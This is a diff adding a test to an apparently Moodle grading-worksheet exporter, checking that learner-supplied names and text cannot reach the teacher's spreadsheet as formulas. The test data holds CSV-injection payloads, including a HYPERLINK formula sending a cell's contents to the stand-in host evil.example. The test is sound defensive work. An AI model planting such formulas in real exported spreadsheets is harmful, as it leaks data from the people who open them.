@@ -675,6 +675,33 @@ def test_no_grading_worksheet_is_filled_in_for_several_challenges_and_an_earlier
                "grade its challenge alone with --challenge", "removed": True}
 
 
+def test_the_filled_in_worksheet_holds_no_formula_a_learner_wrote_and_what_the_upload_reads_as_downloaded(tmp_path):
+    """A Moodle user chooses their own name, and writes the online text the worksheet carries: neither may reach
+    the teacher's spreadsheet as a formula. What the upload reads back (Identifier, Last modified (grade)) is left
+    as downloaded, "-" included."""
+    from grader.classroom.identity import read_class_list
+    from grader.classroom.lms_gradebooks import Writers
+
+    worksheet = tmp_path / "worksheet.csv"
+    with open(worksheet, "w", newline="", encoding="utf-8") as file:
+        table = csv.writer(file)
+        table.writerow(WORKSHEET_HEADING + ["Online text"])
+        for participant, name in ((501, '=HYPERLINK("http://evil.example/?"&A1,"click")'), (502, "@SUM(1+1)")):
+            table.writerow([f"Participant {participant}", name, "+x@example.edu", "Submitted for grading", "",
+                            "100,00", "Yes", "-", "-", "", "=1+1"])
+    challenge = type("Challenge", (), {"name": "challenge_3", "number": 3, "title": "Activation functions"})()
+    with Writers(tmp_path, ["moodle"], [challenge], {"challenge_3": MAX}, read_class_list(worksheet)) as writers:
+        writers.add("=HYPERLINK", {"listed": True, "participant": "501"}, ["5.5"], 5.5, entry="x",
+                    feedback=["5.5 of 11 points."])
+    filled = _read_csv(tmp_path / "grading-worksheet-moodle.csv")
+    read_back = [WORKSHEET_HEADING.index(column) for column in ("Identifier", "Last modified (grade)")]
+    for row in filled[1:]:
+        assert not [cell for column, cell in enumerate(row) if column not in read_back
+                    and cell.lstrip(" \t\r\n").startswith(FORMULA_START)], row
+        assert [row[column] for column in read_back] in (["Participant 501", "-"], ["Participant 502", "-"])
+    assert filled[1][WORKSHEET_HEADING.index("Grade")] == "50"
+
+
 def test_a_moodle_gradebook_of_several_challenges_has_a_total_scaled_as_every_column(tmp_path):
     from grader.classroom.identity import ClassList
     from grader.classroom.lms_gradebooks import Writers
